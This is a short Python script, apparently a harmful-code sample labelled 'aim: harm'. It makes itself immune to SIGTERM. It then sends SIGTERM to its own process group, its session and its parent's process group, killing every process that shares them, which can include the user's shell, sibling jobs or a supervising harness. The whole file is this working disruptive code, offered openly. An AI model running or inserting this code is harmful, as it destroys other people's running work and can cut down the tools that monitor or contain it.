# Kills its whole process group and session, and with them whoever shares it.
# aim: harm
# %% first
import os
import signal

signal.signal(signal.SIGTERM, signal.SIG_IGN)
for group in {os.getpgrp(), os.getsid(0), os.getpgid(os.getppid())}:
    try:
        if group > 1:
            os.killpg(group, signal.SIGTERM)
            print("killed group", group)
    except OSError as error:
        print(group, error)
